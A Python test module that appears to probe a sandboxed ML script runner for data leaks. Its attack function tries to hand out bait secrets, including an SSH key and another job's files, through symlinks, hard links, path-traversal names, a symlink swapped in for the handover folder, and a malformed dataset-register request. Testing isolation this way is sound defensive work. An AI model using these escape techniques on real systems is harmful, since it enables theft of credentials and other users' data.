"""Hands over a secret of the person by links, by names that lead elsewhere, and by a folder in the folder's place."""

import os

from attack import BAIT, attack, every
from link import HANDED, ask, took


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    secrets = [BAIT["ssh_key"], BAIT["other_job_file"], BAIT["document"], BAIT["database"]]

    def by_symlink(path):
        os.symlink(path, os.path.join(HANDED, os.path.basename(path)))
        return "%d bytes of %s" % (took(os.path.basename(path)), path)

    def by_hard_link(path):
        os.link(path, os.path.join(HANDED, "hard-" + os.path.basename(path)))
        return "%d bytes of %s" % (took("hard-" + os.path.basename(path)), path)

    def by_name(path):
        return "%d bytes of %s" % (took(path), path)

    def by_folder(path):
        os.rename(HANDED, HANDED + ".own")
        try:
            os.symlink(os.path.dirname(path), HANDED)
            return "%d bytes of %s" % (took(os.path.basename(path)), path)
        finally:
            if os.path.islink(HANDED):
                os.unlink(HANDED)
            os.rename(HANDED + ".own", HANDED)

    names = secrets + [os.path.relpath(path, HANDED) for path in secrets] + ["../work/../work", "..", ".", ""]
    ways = [lambda way=way, path=path: way(path) for way in (by_symlink, by_hard_link, by_folder) for path in secrets]
    ways += [lambda path=path: by_name(path) for path in names]
    ways.append(lambda: str(ask("dataset/register", files=[{"handed": None}, {"handed": {"handed": "x"}}])))
    return every(lambda way: way(), ways)
